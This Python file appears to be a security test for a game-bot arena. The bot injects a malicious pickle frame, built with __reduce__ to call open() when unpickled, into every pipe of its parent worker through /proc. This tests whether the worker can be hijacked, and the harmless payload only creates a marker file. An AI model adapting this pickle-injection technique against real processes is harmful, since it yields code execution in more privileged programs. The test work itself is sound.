"""A launched bot that attacks the worker that launched it: once per run
(a flag file in MARKS, the first argument), it writes a pickle frame into
every pipe of its parent it can open through /proc. Unpickled, the frame
would create the file MARKS/pwned: code of the bot's running in a process
that holds more than the bot should. Then it plays as the random bot.

    python pipe_attacker.py MARKS --address ... (the SDK's options)"""

from __future__ import annotations

import os
import pickle
import struct
import sys
from pathlib import Path


class Payload:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (self.path, "w"))  # what pickle.loads would call


def attack(marks: Path) -> None:
    try:
        os.close(os.open(marks / "attacked", os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    except FileExistsError:
        return  # once per run: the restarted worker is left to play
    frame = pickle.dumps(Payload(str(marks / "pwned")))
    data = struct.pack(">I", len(frame)) + frame
    parent = os.environ["TRUCO_ARENA_PARENT_PID"]
    with open(marks / "attack.log", "a") as log:
        for fd in sorted(os.listdir(f"/proc/{parent}/fd"), key=int):
            path = f"/proc/{parent}/fd/{fd}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                try:
                    log.write(f"wrote {os.write(out, data)} bytes into {path}\n")
                finally:
                    os.close(out)
            except OSError as exc:
                log.write(f"could not write into {path}: {exc}\n")


if __name__ == "__main__":
    marks = Path(sys.argv.pop(1))
    attack(marks)
    from sample_bots.random_bot import main

    main()
